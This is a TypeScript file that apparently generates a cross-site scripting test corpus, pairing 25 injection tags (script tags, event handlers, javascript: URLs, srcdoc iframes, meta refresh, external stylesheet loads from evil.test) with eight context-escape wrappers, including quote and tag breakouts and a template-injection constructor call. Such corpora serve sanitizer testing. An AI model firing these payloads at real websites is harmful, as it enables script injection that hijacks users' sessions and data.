const CALL = 'globalThis.attacked=1';
const TAGS: readonly string[] = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<body onload=${CALL}>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<a href="javascript:${CALL}" autofocus onfocus=${CALL}>x</a>`,
  `<form action="javascript:${CALL}"><button autofocus onfocus=${CALL}>x</button></form>`,
  `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
  `<base href="https://evil.test/">`,
  `<link rel=stylesheet href="https://evil.test/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<style>@import "https://evil.test/x.css";</style>`,
  `<template><script>${CALL}</script></template>`,
  `<xmp><img src=x onerror=${CALL}></xmp>`,
];

/** How each of them tries to get out of where it stands. */
const FRAMES: readonly ((tag: string) => string)[] = [
  (tag) => tag,
  (tag) => `">${tag}`,
  (tag) => `'>${tag}`,
  (tag) => `</script></style></title></textarea>${tag}`,
  (tag) => `--><!--${tag}`,
  (tag) => `javascript:/*${tag}*/${CALL}`,
  (tag) => `{{constructor.constructor("${CALL}")()}}${tag}`,
  (tag) => `\u202e\u0000${tag.replaceAll('<', '\u003c')}\ufeff`,
];

export function xssPayloads(): readonly string[] {
  return FRAMES.flatMap((frame) => TAGS.map(frame));
}
